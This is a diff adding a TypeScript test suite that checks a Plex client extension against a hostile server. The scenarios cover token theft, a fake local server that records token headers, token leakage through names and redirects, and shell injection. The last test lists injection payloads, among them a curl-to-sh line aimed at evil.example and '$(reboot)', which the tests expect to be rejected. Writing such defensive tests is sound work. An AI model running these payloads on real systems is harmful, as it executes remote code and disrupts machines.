@@ -1,0 +1,230 @@
+import assert from 'node:assert/strict';
+import { createServer, type Server as HttpServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { Secret } from '../../src/plex/secret.ts';
+import { AddServer } from '../../src/servers/addServer.ts';
+import { type Server, usedWith } from '../../src/servers/server.ts';
+import { KnownSources } from '../../src/sources/knownSources.ts';
+import { SourceDocuments } from '../../src/sources/sourceDocuments.ts';
+import { toSourceUri } from '../../src/sources/sourceUri.ts';
+import { TokenClipboard } from '../../src/tokens/tokenClipboard.ts';
+import { TokenFates } from '../../src/tokens/tokenFate.ts';
+import { TransientTokens } from '../../src/tokens/transientTokens.ts';
+import { showError } from '../../src/workbench/notify.ts';
+import { Problem } from '../../src/workbench/problem.ts';
+import { inWords } from '../../src/workbench/words.ts';
+import { closeEditors, control, Fixture, Messages, openText, Person, plexErrorOf, simulator } from '../host/fixture.ts';
+
+const { livingRoom, attic } = simulator.servers;
+const { owner } = simulator.tokens;
+const transient = 'transient-2f0c9e14-7d3b-4f21-8a55-0b1c2d3e4f50';
+
+const source = { scheme: 'server', identifier: attic.machineIdentifier } as const;
+const uri = toSourceUri({ machineIdentifier: livingRoom.machineIdentifier, source });
+
+describe('The owner of a hostile server', () => {
+  let fixture: Fixture;
+  let server: Server;
+  beforeEach(async () => {
+    await control.reset();
+    fixture = new Fixture();
+    server = await fixture.addLivingRoom();
+  });
+  afterEach(() => fixture.dispose());
+
+  describe('who wants a token that lasts in a file', () => {
+    const answering = (token: string) =>
+      control.addFault('livingRoom', { fault: { kind: 'token', token }, path: '/security/token' });
+
+    it('does not get the token that was sent inserted, and the user is told why', async () => {
+      await answering(owner);
+      const editor = await openText('token=');
+      const messages = new Messages();
+      const { memento, directory, access, minting } = fixture;
+      const clipboard = new TokenClipboard();
+      const tokens = new TransientTokens({ memento, directory, access, minting, clipboard });
+      await tokens.insert({ machineIdentifier: server.machineIdentifier }).catch(error => showError(error));
+      assert.equal(editor.document.getText(), 'token=');
+      assert.match(messages.texts, /^Living Room returned a long-lived token instead of a transient one/);
+      for (const each of [clipboard, messages]) each.dispose();
+      await closeEditors();
+    });
+
+    it('does not get a token inserted that the server was sent before, by another window', async () => {
+      // Of no shape that tells what it is, and never read in this window.
+      const earlier = 'an-older-token-of-thirty-chars';
+      const tokens = [...server.tokens, { id: 'token-2', label: 'kids' }];
+      await fixture.directory.update(server, { tokens });
+      await fixture.secrets.store(`token/${server.machineIdentifier}/token-2`, earlier);
+      await answering(`${earlier}-and-more`);
+      assert.equal((await plexErrorOf(fixture.mint(server))).kind, 'notTransient');
+    });
+
+    it('does not get the token of an account inserted', async () => {
+      const account = { id: 'mara', name: 'Mara' };
+      const token = 'the-token-of-an-account-of-another-shape';
+      await fixture.accounts.put(account, { token: new Secret(token), obtained: 'pasted', serverTokens: new Map() });
+      await answering(token);
+      assert.equal((await plexErrorOf(fixture.mint(server))).kind, 'notTransient');
+    });
+  });
+
+  describe('who shares a server that says that it is yours', () => {
+    const tokenHeaders: unknown[] = [];
+    let evil: HttpServer;
+    let address: string;
+    const zoe = { id: 'zoe', name: 'Zoe' };
+    const account = 'token-that-ines-gave-zoe';
+    beforeEach(async () => {
+      tokenHeaders.length = 0;
+      evil = createServer(({ headers }, response) => {
+        const token = headers['x-plex-token'];
+        if (token !== undefined) tokenHeaders.push(token);
+        const { machineIdentifier } = livingRoom;
+        response.setHeader('Content-Type', 'application/json');
+        response.end(JSON.stringify({ MediaContainer: { machineIdentifier, claimed: true, token: transient } }));
+      });
+      await new Promise<void>(resolve => evil.listen(0, '127.0.0.1', resolve));
+      address = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
+      const serverTokens = new Map([[livingRoom.machineIdentifier, new Secret(account)]]);
+      await fixture.accounts.put(zoe, { token: new Secret('token-of-zoe'), obtained: 'pasted', serverTokens });
+      const { machineIdentifier } = livingRoom;
+      const connections = [{ address, local: true, relay: false }];
+      const listed = { machineIdentifier, name: 'Living Room', version: '', owned: false, owner: 'ines', connections };
+      await fixture.directory.setListed(zoe.id, [listed]);
+      server = fixture.directory.find(machineIdentifier) ?? assert.fail();
+      assert.equal(server.tokens.length, 2);
+    });
+    afterEach(() => {
+      evil.close();
+      evil.closeAllConnections();
+    });
+
+    it('does not get the token that was pasted for yours, which goes where it was given for', async () => {
+      await fixture.mint(server);
+      assert.equal(fixture.access.addressOf(server), livingRoom.url);
+      assert.deepEqual(tokenHeaders, []);
+    });
+
+    it('does not get it either while yours does not answer, nor after it was used with its own token', async () => {
+      const asZoe = usedWith(server, 'account/zoe') ?? assert.fail();
+      await fixture.mint(asZoe);
+      assert.deepEqual(tokenHeaders, [account]);
+      await control.disconnect('livingRoom');
+      const both = await Promise.allSettled([fixture.mint(asZoe), fixture.mint(server)]);
+      assert.deepEqual(
+        both.map(({ status }) => status),
+        ['fulfilled', 'rejected'],
+      );
+      assert.deepEqual(tokenHeaders, [account, account]);
+      assert.equal(fixture.access.addressOf(server), livingRoom.url);
+    });
+
+    it('does not get a transient token that yours created', async () => {
+      const token = (await fixture.minting.mint(server)).reveal();
+      const fates = new TokenFates(fixture.directory, fixture.access, fixture.issued);
+      const { issued } = fixture;
+      assert.equal((await fates.fateOf(token, issued.find(token) ?? assert.fail())).kind, 'alive');
+      // What it was created with is gone, and only the one who shares it says where the server is.
+      await fixture.directory.remove(server);
+      await fixture.directory.select(fixture.directory.find(livingRoom.machineIdentifier) ?? assert.fail());
+      assert.equal((await fates.fateOf(token, issued.find(token) ?? assert.fail())).kind, 'unknown');
+      assert.deepEqual(tokenHeaders, []);
+    });
+
+    it('does not get a new token that is added for yours', async () => {
+      await fixture.directory.select(server, 'account/zoe');
+      const person = new Person();
+      const adding = new AddServer(fixture.directory, fixture.tokens, fixture.access);
+      const done = adding.addToken(livingRoom.machineIdentifier);
+      await person.isAsked(1);
+      assert.ok(person.box.prompt?.includes(livingRoom.url), person.box.prompt);
+      await person.cancels();
+      await done;
+      person.dispose();
+    });
+  });
+
+  describe('who wants a token where others read it', () => {
+    const stored = () => JSON.stringify([...fixture.memento.values]);
+
+    it('does not have it stored as the name of a server', async () => {
+      await control.addFault('livingRoom', { fault: { kind: 'names', friendlyName: `My ${owner}` } });
+      await fixture.directory.remove(server);
+      const person = new Person();
+      const messages = new Messages();
+      const done = new AddServer(fixture.directory, fixture.tokens, fixture.access).addServer();
+      for (const [index, answer] of [livingRoom.url, owner, 'me'].entries()) {
+        await person.isAsked(index + 1);
+        await person.answers(answer);
+      }
+      await done;
+      assert.equal(fixture.directory.servers[0]?.name, '127.0.0.1');
+      assert.ok(!(stored() + messages.texts).includes(owner));
+      for (const each of [person, messages]) each.dispose();
+    });
+
+    it('does not have it shown as the name of a provider, or in a source document', async () => {
+      const names = { kind: 'names', providerTitle: owner, deviceName: `(${owner})` } as const;
+      await control.addFault('livingRoom', { fault: names });
+      const providers = await new KnownSources(fixture.directory, fixture.access).providers(server);
+      assert.ok(providers.length > 0);
+      assert.ok(!JSON.stringify(providers).includes(owner));
+      const documents = new SourceDocuments(fixture.directory, fixture.access);
+      await documents.load(uri);
+      const { text = '', tokens } = documents.answerOf(uri) ?? {};
+      assert.equal(JSON.parse(text).MediaContainer.Device.name, '');
+      assert.equal(tokens?.[0]?.deviceName, '');
+      assert.ok(!text.includes(owner));
+      documents.dispose();
+    });
+
+    it('does not have it shown as the name of a host that it redirects to', async () => {
+      const location = `https://${owner}.example/`;
+      await control.addFault('livingRoom', {
+        fault: { kind: 'redirect', status: 307, location },
+        path: '/security/token',
+      });
+      const error = await plexErrorOf(fixture.mint(server));
+      assert.equal(error.kind, 'redirected');
+      assert.ok(!(inWords(error)?.message ?? '').toLowerCase().includes(owner.toLowerCase()));
+    });
+
+    it('does not have it stored as its version', async () => {
+      await control.addFault('livingRoom', { fault: { kind: 'names', version: owner } });
+      await fixture.mint(server);
+      assert.ok(!stored().includes(owner));
+    });
+
+    it('does not have it stored in the list of an account', async () => {
+      await control.addFault('plexTv', { fault: { kind: 'names', deviceName: owner, myPlexUsername: owner } });
+      const account = { id: 'mara', name: 'Mara' };
+      await fixture.accounts.put(account, { token: new Secret(owner), obtained: 'pasted', serverTokens: new Map() });
+      await fixture.accountServers.read(account);
+      const { servers } = fixture.directory;
+      assert.ok(servers.length > 1);
+      assert.ok(!JSON.stringify(servers).includes(owner));
+    });
+  });
+
+  describe('who wants a command in a shell', () => {
+    for (const token of [
+      "x'; curl https://evil.example | sh #",
+      '$(reboot)',
+      'a b c d e f g h',
+      'line\nbreak',
+      'short',
+    ]) {
+      it(`does not have ${JSON.stringify(token)} copied or revealed as the token of a source`, async () => {
+        await control.addFault('livingRoom', { fault: { kind: 'token', token }, path: '/security/resources' });
+        const documents = new SourceDocuments(fixture.directory, fixture.access);
+        await documents.load(uri);
+        // Reveal and Copy take what they show from here.
+        assert.throws(() => documents.tokensOf(uri), Problem);
+        const { text = '' } = documents.answerOf(uri) ?? {};
+        assert.equal(JSON.parse(text).MediaContainer.Device.accessToken, 'not a token');
+        documents.dispose();
+      });
+    }
+  });
+});
